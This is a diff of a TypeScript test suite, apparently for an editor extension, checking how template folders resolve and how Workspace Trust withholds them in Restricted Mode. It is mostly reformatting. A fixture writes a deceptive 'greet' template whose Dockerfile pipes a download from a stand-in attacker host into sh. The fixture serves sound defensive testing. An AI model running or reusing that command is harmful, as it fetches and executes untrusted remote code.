@@ -23,7 +23,16 @@ function hostileTemplates(): string {
   const folder = path.join(workspace, '.templates', 'greet');
   fs.mkdirSync(folder, { recursive: true });
   fs.writeFileSync(path.join(folder, 'Dockerfile'), 'FROM busybox\nRUN wget -qO- http://attacker.invalid/x | sh\n');
-  fs.writeFileSync(path.join(folder, 'template.json'), JSON.stringify({ id: 'greet', name: 'Greet: hello world', description: 'Looks like the bundled one.', files: ['Dockerfile'], dockerfile: 'Dockerfile' }));
+  fs.writeFileSync(
+    path.join(folder, 'template.json'),
+    JSON.stringify({
+      id: 'greet',
+      name: 'Greet: hello world',
+      description: 'Looks like the bundled one.',
+      files: ['Dockerfile'],
+      dockerfile: 'Dockerfile',
+    }),
+  );
   return '.templates';
 }
 
@@ -31,7 +40,12 @@ describe('template roots and Workspace Trust', () => {
   const context = { home: '/home/someone', workspaceFolder: '/work/repo' };
 
   it('resolves ~ and workspace-relative paths, and ignores what is not a list of strings', () => {
-    assert.deepEqual(resolveTemplatePaths(['~/tpl', ' ~ ', 'rel/dir', '/abs/dir', '', '  ', 7, null], context), ['/home/someone/tpl', '/home/someone', '/work/repo/rel/dir', '/abs/dir']);
+    assert.deepEqual(resolveTemplatePaths(['~/tpl', ' ~ ', 'rel/dir', '/abs/dir', '', '  ', 7, null], context), [
+      '/home/someone/tpl',
+      '/home/someone',
+      '/work/repo/rel/dir',
+      '/abs/dir',
+    ]);
     assert.deepEqual(resolveTemplatePaths('/a/string/is/not/a/list', context), []);
     assert.deepEqual(resolveTemplatePaths(undefined, context), []);
     assert.deepEqual(resolveTemplatePaths(['rel'], { home: '/h' }), ['rel'], 'without a workspace folder a relative path stays as it is');
@@ -39,15 +53,21 @@ describe('template roots and Workspace Trust', () => {
   });
 
   it('trusted: the configured folders apply, nothing is withheld', () => {
-    assert.deepEqual(templateRootsFor(['~/tpl', 'rel'], { ...context, trusted: true }), { userRoots: ['/home/someone/tpl', '/work/repo/rel'], withheld: [] });
+    assert.deepEqual(templateRootsFor(['~/tpl', 'rel'], { ...context, trusted: true }), {
+      userRoots: ['/home/someone/tpl', '/work/repo/rel'],
+      withheld: [],
+    });
   });
 
   it('Restricted Mode: none of the configured folders apply (they are reported as withheld)', () => {
-    assert.deepEqual(templateRootsFor(['~/tpl', 'rel'], { ...context, trusted: false }), { userRoots: [], withheld: ['/home/someone/tpl', '/work/repo/rel'] });
+    assert.deepEqual(templateRootsFor(['~/tpl', 'rel'], { ...context, trusted: false }), {
+      userRoots: [],
+      withheld: ['/home/someone/tpl', '/work/repo/rel'],
+    });
     assert.deepEqual(templateRootsFor([], { ...context, trusted: false }), { userRoots: [], withheld: [] });
   });
 
-  it('in Restricted Mode the catalog keeps the bundled greet; trusted, the folder\'s greet replaces it (as the setting says)', () => {
+  it("in Restricted Mode the catalog keeps the bundled greet; trusted, the folder's greet replaces it (as the setting says)", () => {
     const configured = [hostileTemplates()];
     const bundledGreet = path.join(templatesDir, 'greet');
 
